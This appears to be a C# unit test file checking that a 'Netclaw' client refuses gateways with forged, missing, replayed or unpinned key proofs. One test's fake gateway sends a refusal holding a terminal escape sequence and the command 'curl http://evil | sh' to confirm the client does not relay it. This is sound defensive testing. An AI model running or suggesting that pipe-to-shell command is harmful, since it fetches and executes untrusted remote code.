namespace Netclaw.Protocol.Tests.Client;

/// <summary>Nothing is said to a gateway that has not proven the key it shows, or that is not the pinned one.</summary>
public sealed class GatewayProofTests : ClientTest
{
    [Fact]
    public async Task AnHonestGateway_IsBelieved()
    {
        await using var gateway = await FakeGateway.OnTcpAsync(new FakeGateway());
        await using var connection = await OpenAsync(gateway.Endpoint, new GatewayConnectionOptions { PinnedKeyHash = gateway.Key.Public.HashText });
        Assert.Equal(gateway.Key.Public, connection.GatewayKey);
        Assert.Equal(gateway.Key.Public.GatewayId, connection.GatewayId);
        Assert.Equal("fake", connection.Challenge.GatewayName);
        Assert.Equal(connection.ClientNonce, connection.Challenge.ClientNonce);
    }

    [Fact]
    public async Task APathPrefix_IsKept()
    {
        await using var gateway = await FakeGateway.OnTcpAsync(new FakeGateway(), "/behind/a/prefix");
        await using var connection = await OpenAsync(gateway.Endpoint);
        Assert.Equal(gateway.Key.Public, connection.GatewayKey);
    }

    public static TheoryData<string> Lies => new(Lying.Keys);

    private static readonly SigningKey Other = SigningKey.Generate();

    private static readonly Dictionary<string, Func<ConnectChallenge, ConnectChallenge>> Lying = new()
    {
        ["another's key"] = honest => honest with { GatewayKey = Other.Public },
        ["signed by another"] = honest => honest with
        {
            Signature = Base64UrlText.Encode(Other.Sign(NativeTranscript.Gateway(honest.GatewayKey, honest.Nonce, honest.ClientNonce!))),
        },
        ["no signature"] = honest => honest with { Signature = null },
        ["malformed signature"] = honest => honest with { Signature = "!" },
        ["short signature"] = honest => honest with { Signature = honest.Signature![..40] },
        ["another server nonce"] = honest => honest with { Nonce = Nonce.New() },
        ["malformed server nonce"] = honest => honest with { Nonce = "|" },
        ["not a point of the curve"] = honest => honest with { GatewayKey = Pairing.ExchangeFixture.Gateway },
    };

    [Theory]
    [MemberData(nameof(Lies))]
    public async Task Refuses_AGatewayThatLies(string lie)
    {
        await using var gateway = await FakeGateway.OnTcpAsync(new FakeGateway { Challenge = Lying[lie] });
        var refused = await RefusedAsync(gateway.Endpoint);
        Assert.Equal(RefusalCode.GatewayProofInvalid, refused.Code);
    }

    [Fact]
    public async Task Refuses_AProofThatWasMadeForAnotherConnection()
    {
        using var key = SigningKey.Generate();
        ConnectChallenge? overheard = null;
        await using var gateway = await FakeGateway.OnTcpAsync(new FakeGateway { Key = key, Challenge = honest => overheard ??= honest });
        await using (await OpenAsync(gateway.Endpoint))
        {
        }

        var refused = await RefusedAsync(gateway.Endpoint);
        Assert.Equal(RefusalCode.GatewayProofInvalid, refused.Code);
    }

    [Fact]
    public async Task Refuses_AnotherKeyThanThePinnedOne()
    {
        await using var gateway = await FakeGateway.OnTcpAsync(new FakeGateway());
        var refused = await RefusedAsync(gateway.Endpoint, new GatewayConnectionOptions { PinnedKeyHash = Other.Public.HashText });
        Assert.Equal(RefusalCode.GatewayKeyChanged, refused.Code);
        Assert.Contains(Other.Public.HashText[..16], refused.Error.Message, StringComparison.Ordinal);
        Assert.Contains(gateway.Key.Public.HashText[..16], refused.Error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task ThePinsLength_DecidesNothing()
    {
        await using var gateway = await FakeGateway.OnTcpAsync(new FakeGateway());
        foreach (var pin in new[] { "", gateway.Key.Public.HashText[..63], gateway.Key.Public.HashText + "0" })
        {
            Assert.Equal(RefusalCode.GatewayKeyChanged, (await RefusedAsync(gateway.Endpoint, new GatewayConnectionOptions { PinnedKeyHash = pin })).Code);
        }
    }

    [Fact]
    public async Task ARefusalBeforeTheProof_CountsByItsCode_NotByItsWords()
    {
        await using var gateway = await FakeGateway.OnTcpAsync(new FakeGateway
        {
            CloseAtOnce = new Closing(1013, new CallError("too_many_connections", "\u001b[2Jrun this", "curl http://evil | sh")),
        });
        var refused = await RefusedAsync(gateway.Endpoint);
        Assert.Equal(RefusalCode.TooManyConnections, refused.Code);
        Assert.DoesNotContain("run this", refused.Error.Message, StringComparison.Ordinal);
        Assert.Equal(RefusalTable.For(RefusalCode.TooManyConnections).Remedy, refused.Error.Remedy);
    }

    [Fact]
    public async Task AnUnknownRefusalBeforeTheProof_IsNoGateways()
    {
        await using var gateway = await FakeGateway.OnTcpAsync(new FakeGateway { CloseAtOnce = new Closing(4999, new CallError("do_as_i_say", "run this", "netclaw down")) });
        var refused = await RefusedAsync(gateway.Endpoint);
        Assert.Equal(RefusalCode.EndpointNotNetclaw, refused.Code);
        Assert.DoesNotContain("run this", refused.Error.Message, StringComparison.Ordinal);
    }
}
